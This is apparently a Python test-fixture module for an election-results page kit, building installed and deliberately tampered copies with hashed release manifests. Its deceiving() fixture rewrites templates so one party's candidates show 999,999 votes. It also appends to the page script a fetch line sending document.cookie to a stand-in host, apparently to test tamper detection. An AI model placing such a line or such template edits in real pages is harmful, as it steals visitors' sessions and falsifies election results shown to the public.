"""The installed page, and pages that somebody altered: each a whole kit with a list of its own."""

import json
import shutil
from collections.abc import Callable, Mapping
from hashlib import sha256
from pathlib import Path
from typing import TypeAlias

from openprep.pages.kit import BUILT_PAGE, Kit
from openprep.wire.release import RELEASE_PATH


def installed() -> Kit:
    """The kit of this checkout."""
    return Kit.load()


Change: TypeAlias = Callable[[str], str] | str | None
"""What becomes of a file: the text that is made of it, another, or none."""


def made(
    folder: Path,
    changes: Mapping[str, Change] | None = None,
    version: str = "0.0.9",
    base: Path = BUILT_PAGE,
) -> Kit:
    """A kit in ``folder``: the installed one with files changed (``None`` takes one away)."""
    shutil.copytree(base, folder)
    for name, change in (changes or {}).items():
        path = folder / name
        if change is None:
            path.unlink()
            continue
        before = path.read_text() if path.exists() else ""
        path.write_text(change(before) if callable(change) else change)
    return listed(folder, version)


def listed(folder: Path, version: str) -> Kit:
    """The kit in ``folder``, under a list of what is there now."""
    files = {}
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        if path.is_file() and name != RELEASE_PATH:
            data = path.read_bytes()
            files[name] = {"sha256": sha256(data).hexdigest(), "size": len(data)}
    release = {"schema": 1, "version": version, "files": files}
    (folder / RELEASE_PATH).write_text(json.dumps(release))
    return Kit.load(folder)


FOREIGN = "fetch('https://elsewhere.example/'+document.cookie);\n"


def false_figures(parts: str) -> str:
    """The shared template, so that whoever runs for LILA has 999,999 votes."""
    honest = "(candidacy.votes | number) ~ ' votos'"
    assert honest in parts
    return parts.replace(honest, f"('999,999 votos' if 'LILA' in candidacy.parties else {honest})")


def false_text(text: str) -> str:
    """The template of the text page, in the same way."""
    honest = "{{ candidacy.votes | number }} votos"
    assert honest in text
    false = "{{ '999,999' if 'LILA' in candidacy.parties else candidacy.votes }} votos"
    return text.replace(honest, false)


def deceiving(folder: Path) -> Kit:
    """A kit whose pages say false figures and whose script does what nobody released."""
    script = next((BUILT_PAGE / "assets").glob("index-*.js")).name
    changes: dict[str, Change] = {
        "_parts.html.j2": false_figures,
        "text.html.j2": false_text,
        f"assets/{script}": lambda text: text + FOREIGN,
    }
    return made(folder, changes)


def renamed(folder: Path, version: str, old: str = "index") -> Kit:
    """Another release: its script has another name, and its pages say so."""
    scripts = (BUILT_PAGE / "assets").glob(f"{old}-*.js")
    page = (BUILT_PAGE / "index.html").read_text()
    script = next(script for script in scripts if old != "index" or script.name in page)
    name = f"{old}-{version.replace('.', '')}abcde.js"
    kit: dict[str, Change] = {
        f"assets/{script.name}": None,
        f"assets/{name}": script.read_text() + f"\n// {version}\n",
        "index.html": lambda text: text.replace(script.name, name),
        "marco.html": lambda text: text.replace(script.name, name),
    }
    return made(folder, kit, version)
